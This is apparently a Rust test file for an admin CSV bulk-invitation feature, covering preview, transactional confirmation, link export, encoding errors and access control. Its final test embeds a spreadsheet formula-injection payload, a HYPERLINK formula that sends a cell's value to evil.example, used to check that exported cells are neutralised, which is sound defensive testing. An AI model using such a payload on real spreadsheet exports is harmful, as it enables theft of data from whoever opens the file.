//! Bulk provisioning from CSV: preview, all-or-nothing confirmation, links.

use super::*;

const FILE: &str = "email,name,organization,title,role
new.one@mfa.go.ke,New One,KEN,Attaché,
bad-email,No Email,KEN,,
x@un.org,Unknown Org,ZZZ,,
existing@maec.es,Existing Person,ESP,,
new.two@un.org,Новый Второй,UNODC,Officer,admin
new.one@mfa.go.ke,Duplicate Row,KEN,,
y@un.org,Bad Role,KEN,,superuser
";

fn confirm_fields(page: &TestResponse, format: &'static str) -> (String, &'static str) {
    let start = page
        .body
        .find("<textarea name=\"csv\" hidden>")
        .expect("the file rides along")
        + "<textarea name=\"csv\" hidden>".len();
    let end = page.body[start..].find("</textarea>").unwrap();
    let html = &page.body[start..start + end];
    let text = gctcp_testkit::html::unescape(html);
    (text, format)
}

dual!(the_preview_classifies_every_row_and_writes_nothing, |app| {
    let admin = app.admin().await;
    app.person(
        "existing@maec.es",
        "Existing Person",
        "ESP",
        PlatformRole::FocalPoint,
    )
    .await;
    let mut c = app.signed_in(&admin).await;
    c.get("/admin/accounts/import")
        .await
        .assert_contains("Nothing is written until you confirm");
    let before = app.count("SELECT COUNT(*) FROM accounts").await;
    let res = c
        .post_multipart(
            "/admin/accounts/import",
            &[("file", Some("people.csv"), FILE.as_bytes())],
        )
        .await;
    assert_eq!(res.status, StatusCode::OK, "{}", res.body);
    res.assert_contains("2 to invite")
        .assert_contains("1 already registered")
        .assert_contains("4 errors");
    for reason in [
        "Enter a valid e-mail address",
        "Unknown organization",
        "appears earlier in the file",
        "Choose a role",
    ] {
        res.assert_contains(reason);
    }
    assert_eq!(res.body.matches("outcome-will-invite").count(), 2);
    assert_eq!(res.body.matches("outcome-exists").count(), 1);
    assert_eq!(
        app.count("SELECT COUNT(*) FROM accounts").await,
        before,
        "a preview writes nothing"
    );
    assert_eq!(
        app.count("SELECT COUNT(*) FROM audit_log WHERE event = 'invitation.created'")
            .await,
        2,
        "only the factories'"
    );

    // Confirmation invites the two valid rows, together.
    let (csv, format) = confirm_fields(&res, "html");
    let done = c
        .post(
            "/admin/accounts/import/confirm",
            &[("csv", &csv), ("format", format)],
        )
        .await;
    assert_eq!(done.status, StatusCode::OK, "{}", done.body);
    done.assert_contains("2 people have been invited")
        .assert_contains("new.one@mfa.go.ke")
        .assert_contains("Новый Второй");
    assert_eq!(app.count("SELECT COUNT(*) FROM accounts").await, before + 2);
    let two = gctcp_store::accounts::by_email(app.db(), "new.two@un.org")
        .await
        .unwrap()
        .unwrap();
    assert_eq!(
        (
            two.role.as_str(),
            two.status.as_str(),
            two.org_code.as_str()
        ),
        ("admin", "invited", "UNODC")
    );
    let one = gctcp_store::accounts::by_email(app.db(), "new.one@mfa.go.ke")
        .await
        .unwrap()
        .unwrap();
    assert_eq!(one.title, "Attaché");
    assert_eq!(
        app.count("SELECT COUNT(*) FROM audit_log WHERE event = 'accounts.imported'")
            .await,
        1
    );
    // The links work.
    let start = done.body.find("/invite/").unwrap();
    let path = &done.body[start..start + done.body[start..].find('"').unwrap()];
    app.client().get(path).await.assert_contains("New One");

    // The same file again: everyone valid now exists, nothing to invite.
    let again = c
        .post(
            "/admin/accounts/import/confirm",
            &[("csv", &csv), ("format", "html")],
        )
        .await;
    assert_eq!(again.status, StatusCode::UNPROCESSABLE_ENTITY);
    again.assert_contains("No row can be invited");
    assert_eq!(app.count("SELECT COUNT(*) FROM accounts").await, before + 2);
});

dual!(
    confirmation_is_all_or_nothing_and_can_download_the_links,
    |app| {
        let admin = app.admin().await;
        let mut c = app.signed_in(&admin).await;
        c.get("/admin/accounts/import").await;
        let file = "a.one@un.org;A One;UNODC\na.two@un.org;A Two;UNDP\n";
        let preview = c
            .post_multipart(
                "/admin/accounts/import",
                &[("file", Some("semicolons.csv"), file.as_bytes())],
            )
            .await;
        preview.assert_contains("2 to invite");
        let (csv, _) = confirm_fields(&preview, "csv");
        // Someone provisions one of them between preview and confirmation.
        app.invite("a.two@un.org", "A Two", "UNDP", PlatformRole::FocalPoint)
            .await;
        let before = app.count("SELECT COUNT(*) FROM accounts").await;
        let res = c
            .post(
                "/admin/accounts/import/confirm",
                &[("csv", &csv), ("format", "csv")],
            )
            .await;
        // The fresh check now skips a.two and invites a.one only, as a CSV of links.
        assert_eq!(res.status, StatusCode::OK, "{}", res.body);
        assert!(res.header("content-type").unwrap().starts_with("text/csv"));
        let body = res.body.trim_start_matches('\u{feff}');
        let lines: Vec<&str> = body.lines().collect();
        assert_eq!(lines[0], "email,name,invitation_url");
        assert_eq!(lines.len(), 2);
        assert!(
            lines[1].starts_with("a.one@un.org,A One,http://127.0.0.1:8080/invite/"),
            "{}",
            lines[1]
        );
        assert_eq!(app.count("SELECT COUNT(*) FROM accounts").await, before + 1);

        // In one transaction: when a row fails inside it, none is kept.
        let seeds = ["b.one@un.org", "a.one@un.org"];
        let org = gctcp_store::orgs::by_code(app.db(), "UNODC")
            .await
            .unwrap()
            .unwrap()
            .org_id();
        let rows: Vec<gctcp_app::accounts::Checked> = seeds
            .iter()
            .map(|e| gctcp_app::accounts::Checked {
                email: e.to_string(),
                name: "B".into(),
                org,
                title: String::new(),
                role: PlatformRole::FocalPoint,
            })
            .collect();
        let out = gctcp_app::accounts::provision_many(&app.state, &gctcp_app::Actor::cli(), &rows)
            .await
            .unwrap()
            .map(|_| ());
        assert_eq!(out, Err(1), "the second row already exists");
        assert!(
            gctcp_store::accounts::by_email(app.db(), "b.one@un.org")
                .await
                .unwrap()
                .is_none(),
            "the first row was rolled back"
        );
    }
);

dual!(
    unreadable_files_get_a_clear_message_and_only_admins_import,
    |app| {
        let admin = app.admin().await;
        let fp = app.focal_point("fp@un.org", "KEN").await;
        let mut c = app.signed_in(&admin).await;
        c.get("/admin/accounts/import").await;
        let res = c
            .post_multipart(
                "/admin/accounts/import",
                &[("file", Some("latin1.csv"), b"caf\xe9@un.org,Caf\xe9,FRA\n")],
            )
            .await;
        assert_eq!(res.status, StatusCode::UNPROCESSABLE_ENTITY);
        res.assert_contains("not UTF-8");
        c.get("/admin/accounts/import").await;
        let res = c
            .post_multipart(
                "/admin/accounts/import",
                &[("file", Some("empty.csv"), b"email,name,organization\n")],
            )
            .await;
        res.assert_contains("holds no one to invite");
        let mut f = app.signed_in(&fp).await;
        assert_eq!(
            f.get("/admin/accounts/import").await.status,
            StatusCode::FORBIDDEN
        );
        let res = f
            .post_multipart(
                "/admin/accounts/import",
                &[("file", Some("x.csv"), b"z@un.org,Z,KEN\n")],
            )
            .await;
        assert_eq!(res.status, StatusCode::FORBIDDEN);
        let res = f
            .post(
                "/admin/accounts/import/confirm",
                &[("csv", "z@un.org,Z,KEN\n"), ("format", "html")],
            )
            .await;
        assert_eq!(res.status, StatusCode::FORBIDDEN);
        assert!(gctcp_store::accounts::by_email(app.db(), "z@un.org")
            .await
            .unwrap()
            .is_none());
    }
);

dual!(the_links_spreadsheet_cannot_carry_a_formula, |app| {
    let admin = app.admin().await;
    let mut c = app.signed_in(&admin).await;
    c.get("/admin/accounts/import").await;
    let file = "email,name,organization\n\
            f.one@un.org,\"=HYPERLINK(\"\"https://evil.example/?x=\"\"&A1,\"\"Open\"\")\",UNODC\n\
            f.two@un.org,+1 Plus,UNODC\n\
            f.three@un.org,@SUM(9),UNODC\n\
            f.four@un.org,-2+3,UNODC\n\
            f.five@un.org,Plain Name,UNODC\n";
    let preview = c
        .post_multipart(
            "/admin/accounts/import",
            &[("file", Some("formulas.csv"), file.as_bytes())],
        )
        .await;
    preview.assert_contains("5 to invite");
    let (csv, _) = confirm_fields(&preview, "csv");
    let res = c
        .post(
            "/admin/accounts/import/confirm",
            &[("csv", &csv), ("format", "csv")],
        )
        .await;
    assert_eq!(res.status, StatusCode::OK, "{}", res.body);
    assert!(res.header("content-type").unwrap().starts_with("text/csv"));
    // Read back as a spreadsheet would: no cell may begin a formula.
    let body = res.body.trim_start_matches('\u{feff}');
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 5, "{body}");
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@']),
                "a formula reaches the spreadsheet: {cell:?}"
            );
        }
    }
    let names: Vec<&str> = rows.iter().map(|r| &r[1]).collect();
    assert!(
        names.contains(&"'=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Open\")"),
        "{names:?}"
    );
    assert!(names.contains(&"'+1 Plus"), "{names:?}");
    assert!(names.contains(&"'@SUM(9)"), "{names:?}");
    assert!(names.contains(&"Plain Name"), "{names:?}");
});
